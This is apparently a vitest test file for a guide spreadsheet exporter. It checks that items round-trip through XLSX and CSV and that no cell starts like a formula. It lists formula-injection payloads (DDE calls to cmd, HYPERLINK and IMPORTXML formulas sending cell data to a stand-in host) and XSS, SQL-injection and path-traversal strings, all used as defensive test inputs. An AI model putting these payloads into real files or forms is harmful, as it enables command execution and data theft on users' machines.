/** Service guides as spreadsheets: out and in again the same, and nothing in them a spreadsheet would run. */
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { Item } from '#shared/domain/setup/guide.ts'
import { fromCell, fromLines, toCell, toLines } from '../../server/guides/cells.ts'
import { readGuides } from '../../server/guides/readGuides.ts'
import { tablesOf } from '../../server/guides/tables.ts'
import { writeGuidesCsv } from '../../server/guides/writeGuides.ts'
import { asCsv, asXlsx, bare, said, someItems, someText, town } from './guideFiles.ts'

describe('out and in again', () => {
  test('the township’s guides, as a spreadsheet and as text', async () => {
    for (const file of [await asXlsx(town.items), asCsv(town.items)]) {
      const read = await readGuides(file, bare)
      expect(read.errors).toEqual([])
      expect(read.items).toEqual(town.items)
      expect(read.summary).toEqual({ added: town.items.length, changed: 0, same: 0, kept: 0 })
    }
  })

  test('any items whatever, as a spreadsheet and as text', { timeout: 120_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(someItems, async (items) => {
        for (const file of [await asXlsx(items), asCsv(items)]) {
          const read = await readGuides(file, bare)
          expect(said(read)).toEqual([])
          expect(read.items).toEqual(items)
        }
      }),
      { numRuns: 40 },
    )
  })

  test('says what is new, changed, the same, and not in the file', async () => {
    const [first, second, third] = town.items as [Item, Item, Item]
    const read = await readGuides(
      await asXlsx([first, { ...second, code: 'X1' }, { ...third, id: 'fresh' as Item['id'] }]),
      town,
    )
    expect(read.summary).toEqual({ added: 1, changed: 1, same: 1, kept: town.items.length - 2 })
  })

  test('text from a Chinese Excel is understood in its own encoding', async () => {
    const { default: iconv } = await import('iconv-lite')
    const plain = writeGuidesCsv(tablesOf(town.items.slice(0, 5), town))
      .slice(1)
      .replace(/[’“”—·]/g, '')
    const read = await readGuides(iconv.encode(plain, 'gb18030'), bare)
    expect(said(read)).toEqual([])
    expect(read.items.map(({ name }) => name['zh-CN'])).toEqual(town.items.slice(0, 5).map(({ name }) => name['zh-CN']))
  })

  test('three hundred guides are read in a moment', async () => {
    const many = Array.from({ length: 300 }, (_, n) => ({
      ...town.items[n % town.items.length]!,
      id: `item-${n}` as Item['id'],
    }))
    const file = await asXlsx(many)
    const began = performance.now()
    const read = await readGuides(file, bare)
    expect(read.items).toHaveLength(300)
    expect(performance.now() - began).toBeLessThan(5_000)
  })
})

/** Beginnings a spreadsheet takes for a formula, and what is built with them. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.test/?x="&A1,"点我")',
  '=WEBSERVICE("http://example.test")',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://example.test",A1),"//a")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@1',
  "'=1+1",
  "''=1+1",
  '=',
  '-',
  '=1+1\n=2+2',
  '="a"',
  '=A1,B1',
  '-；=1',
]
/** Texts that break files rather than spreadsheets. */
const nasty = [
  '"',
  '""',
  '","',
  'a"b,c\nd',
  '<script>alert(1)</script>',
  '<![CDATA[x]]>',
  ']]>',
  '&lt;&amp;&#10;',
  '</t></si>',
  '{{7*7}}',
  '${7*7}',
  '../../etc/passwd',
  "'; DROP TABLE facts; --",
  '\u200b零宽',
  '\u202e反过来',
  '𠮷野家 👨‍👩‍👧',
  'é',
  '\\',
  '\\n',
  'null',
]

describe('forty nasty texts', () => {
  test('are forty', () => expect(new Set([...formulas, ...nasty]).size).toBe(40))

  test.each([...formulas, ...nasty])('%j comes back as it was, and never begins like a formula', async (text) => {
    const item = Item.parse({
      ...town.items[0],
      name: { 'zh-CN': text },
      basis: [text, 'b'],
      conditions: [{ 'zh-CN': text, en: text }, { 'zh-CN': 'b' }],
      materials: [{ id: 'p', name: { 'zh-CN': text }, howToGet: { 'zh-CN': text } }],
    })
    const xlsx = await asXlsx([item])
    const csv = asCsv([item])
    expect((await readGuides(xlsx, bare)).items).toEqual([item])
    expect((await readGuides(csv, bare)).items).toEqual([item])
    const cells = [...csv.toString().matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell)
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  })

  test('control characters, line ends of other machines and halves of characters are left out or made plain', () => {
    expect(toCell('a\u0000b\u0007c\ud800d\r\ne\rf')).toBe('abcd\ne\nf')
    expect([toCell('\t=1'), fromCell('\t=1')]).toEqual(["'\t=1", '=1'])
  })

  test('lists keep their holes', () => {
    fc.assert(
      fc.property(fc.array(fc.option(someText(20), { nil: undefined }), { minLength: 1, maxLength: 5 }), (texts) => {
        const read = fromLines(toLines(texts))
        expect(read).toEqual(texts.every((text) => text === undefined) ? [] : texts)
      }),
    )
  })
})
